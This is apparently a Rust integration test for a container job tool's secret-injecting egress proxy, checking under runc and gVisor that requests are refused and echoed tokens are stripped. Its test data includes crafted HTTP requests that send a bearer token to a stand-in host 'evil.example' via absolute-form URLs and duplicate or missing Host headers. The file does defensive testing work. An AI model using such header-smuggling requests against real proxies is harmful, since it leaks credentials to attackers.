//! Issue 40, item 3, from inside runc and gVisor jobs, against the real daemon: the secret
//! goes only where its request truly goes, and comes back in no encoding. The upstream is a
//! hostile HTTPS server this test starts on this machine's address on Docker's default
//! bridge (`fixtures::tls::hostile_https_server`). Fails when Docker is absent unless
//! PADDOCK_SKIP_DOCKER_TESTS=1.

use crate::fixtures::tls::test_tls;
use crate::fixtures::{FixtureRepo, TestHome, bridge_gateway, docker_available, text};
use crate::secrets::https_in_job;

/// Issue 40, item 3, from inside a job: a request that does not go only to the secret's
/// host (absolute-form to another host, no `Host`, two, one naming another site) is refused
/// and never reaches the listener; a hostile upstream that echoes the value back base64,
/// hex, cut short, marked compressed, in a header with a byte past ASCII or in a trailer
/// gets none of it back into the job.
fn a_hostile_upstream_gets_nothing_back_in(runtime: &str) {
    let gateway = bridge_gateway();
    let (ca_pem, config) = test_tls(&gateway);
    let (port, seen) = crate::fixtures::tls::hostile_https_server(&gateway, config);
    let token = format!("tok-{}", std::process::id()) + "-Qm41zRkW8pLx";
    let host = format!("{gateway}:{port}");
    let repo = FixtureRepo::new();
    let home = TestHome::new().env("IT_SECRET_TOKEN", &token);
    let ca_file = home.dir.path().join("upstream-ca.pem");
    std::fs::write(&ca_file, &ca_pem).unwrap();
    std::fs::write(
        home.dir.path().join("config/paddock/config.yaml"),
        format!(
            "admission:\n  memory: 1024g\n  cpus: 1000\n  max_running_execs: 1000\n\
             secrets:\n  api:\n    env: IT_SECRET_TOKEN\n    hosts: ['{host}']\n    variable: API_TOKEN\n\
             egress:\n  upstream_ca: {}\n",
            ca_file.display()
        ),
    )
    .unwrap();
    let image = crate::fixtures::test_image();
    let job = home.create(
        &repo,
        &["--runtime", runtime, "--image", &image, "--secret", "api"],
    );
    let id = text(&job, "id");
    let request = |line: &str, hosts: &[&str]| {
        let mut head = format!("{line}\\r\\n");
        for h in hosts {
            head.push_str(&format!("Host: {h}\\r\\n"));
        }
        head.push_str("Authorization: Bearer $API_TOKEN\\r\\nConnection: close\\r\\n\\r\\n");
        head
    };
    for (line, hosts) in [
        ("GET https://evil.example/abs HTTP/1.1", vec![host.as_str()]),
        ("GET /nohost HTTP/1.1", vec![]),
        ("GET /two HTTP/1.1", vec![host.as_str(), "evil.example"]),
        ("GET /other HTTP/1.1", vec!["evil.example"]),
    ] {
        let out = https_in_job(&home, &id, &host, &request(line, &hosts));
        assert!(out.contains("400 Bad Request"), "{line}: {out}");
    }
    assert!(
        seen.lock().unwrap().is_empty(),
        "a misrouted request went upstream"
    );

    let encodings = {
        use base64::Engine as _;
        let b64 = base64::engine::general_purpose::STANDARD;
        let mut forms: Vec<String> = vec![
            token.clone(),
            token[..8].to_string(),
            token.bytes().map(|b| format!("{b:02x}")).collect(),
        ];
        for skip in 0..3 {
            let rest = &token.as_bytes()[skip..];
            forms.push(b64.encode(&rest[..rest.len() / 3 * 3]));
        }
        forms
    };
    for path in [
        "/base64",
        "/hex",
        "/truncated",
        "/gzip",
        "/deflate",
        "/header",
        "/trailer",
    ] {
        let out = https_in_job(
            &home,
            &id,
            &host,
            &request(&format!("GET {path} HTTP/1.1"), &[host.as_str()]),
        );
        for form in &encodings {
            assert!(
                !out.contains(form.as_str()),
                "{path}: `{form}` came back: {out}"
            );
        }
    }
    // Each of them carried the value upstream: the proxy refused none of those requests.
    let heads = seen.lock().unwrap().clone();
    assert_eq!(heads.len(), 7, "{heads:?}");
    assert!(heads.iter().all(|h| h.contains(&token)), "{heads:?}");
    home.ok(&["rm", &id, "--force"]);
}

#[test]
fn a_hostile_upstream_gets_nothing_back_under_runc() {
    if !docker_available("a_hostile_upstream_gets_nothing_back_under_runc") {
        return;
    }
    a_hostile_upstream_gets_nothing_back_in("docker");
}

#[test]
fn a_hostile_upstream_gets_nothing_back_under_gvisor() {
    if !docker_available("a_hostile_upstream_gets_nothing_back_under_gvisor") {
        return;
    }
    a_hostile_upstream_gets_nothing_back_in("runsc");
}
